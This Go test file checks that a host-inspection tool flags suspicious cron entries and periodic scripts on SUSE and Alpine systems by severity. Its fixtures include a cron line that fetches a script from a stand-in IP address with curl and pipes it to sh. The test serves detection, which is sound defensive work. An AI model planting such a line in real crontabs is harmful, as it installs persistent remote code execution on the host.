package check_test

import (
	"testing"

	"cordon/internal/check"
)

// SUSE keeps personal crontabs in /var/spool/cron/tabs, Alpine in /etc/crontabs and its
// scripts below /etc/periodic.
func TestCronOfSUSEAndAlpineIsJudged(t *testing.T) {
	const (
		fetches = "* * * * * curl -fsS http://192.0.2.10/x | sh\n"
		alpine  = "# do daily/weekly/monthly maintenance\n*/15 * * * * run-parts /etc/periodic/15min\n0 2 * * * run-parts /etc/periodic/daily\n"
	)
	for _, c := range []struct {
		path, text string
		worst      check.Severity // "": nothing to explain
	}{
		{"/var/spool/cron/tabs/root", fetches, check.High},
		{"/var/spool/cron/tabs/gitlab-runner", "5 * * * * /usr/bin/true\n", check.High},
		{"/etc/crontabs/ir", fetches, check.High},
		{"/etc/crontabs/root", alpine + fetches, check.High},
		{"/etc/crontabs/root", alpine + "* * * * * /usr/bin/x\n", check.Low},
		{"/etc/crontabs/root", alpine, ""},
		{"/etc/periodic/daily/x", "#!/bin/sh\ncurl -fsS http://192.0.2.10/x | sh\n", check.High},
		{"/etc/periodic/15min/logrotate", "#!/bin/sh\nexec /usr/sbin/logrotate /etc/logrotate.conf\n", ""},
	} {
		s := cleanHost()
		plantFile(file(cron, c.path, 0o755, 0, c.text))(s)
		got := at(s, "cron-timers", c.path)
		if c.worst == "" && len(got) != 0 || c.worst != "" && (len(got) != 1 || got[0].Severity != c.worst) {
			t.Errorf("%s: %+v, want %q", c.path, got, c.worst)
		}
	}
}
